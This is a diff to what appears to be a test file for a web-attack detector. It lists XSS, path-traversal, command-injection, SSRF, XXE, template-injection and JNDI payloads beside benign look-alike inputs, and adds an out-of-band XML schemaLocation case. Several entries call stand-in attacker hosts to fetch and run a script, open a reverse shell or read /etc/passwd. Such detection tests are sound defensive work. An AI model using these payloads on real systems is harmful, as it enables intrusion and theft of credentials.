@@ -9,7 +9,8 @@ const ATTACKS: Record<string, string[]> = {
   xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)', '${alert(1)}'],
   lfi: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/environ'],
   rce: [';cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x.sh | sh)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '&& ping -c 10 127.0.0.1', '() { :; }; /bin/bash -c "id"', 'cmd.exe /c dir', ';c\'\'at /et\'\'c/pas\'\'swd', 'powershell -enc SQBFAFgA'],
-  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/'],
+  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status', 'http://\\g\\o\\o\\g\\l\\e.\\c\\o\\m/',
+    '<r xmlns="http://a.example/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://c5ipg3yqo8lcutvn8bghspt.oastify.example/r.xsd">r</r>'],
   xxe: ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'],
   ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '{% if True %}49{% endif %}', '<% if 1==1 %>x<% end %>', '{{#if true}}a{{/if}}', "{{7*'7'}}", '@(1+2)', "{{['id']|filter('system')}}"],
   jndi: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}'],
@@ -33,6 +34,8 @@ const BENIGN: string[] = [
   `<p>Hello {{ name }}</p>${'{% if false %}<p>old banner, switched off</p>{% endif %}'}<p>${'Thanks for your order. '.repeat(5)}</p>`,
   'C:\\Users\\grace\\AppData', 'https://mastodon.social/@user@other.example', 'https://www.threads.net/@john.doe', 'https://maps.example.com/@51.5,-0.1,12z',
   'https://user:secret@files.example.com/x', 'Call me @(555) 123-4567',
+  '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
+  '<Configuration xmlns="http://logging.apache.org/log4j/2.0/config" xsi:schemaLocation="http://logging.apache.org/log4j/2.0/config https://raw.githubusercontent.com/apache/logging-log4j2/2.x/log4j-core/src/main/resources/Log4j-config.xsd">',
   'ftp://john%40example.com:secret@ftp.example.com/', 'https://cdn.example.com/app.js?v=3', 'see //wiki/page?', 'What is https?', '@(Model.Name)', "{{ items|map(attribute='name')|join(', ') }}", '${formatPrice(total)}', 'Set the cookie; expires= is optional', 'document.cookie is empty; path=/ did not help', '\\\\fileserver\\share\\report.xlsx',
 ];
 
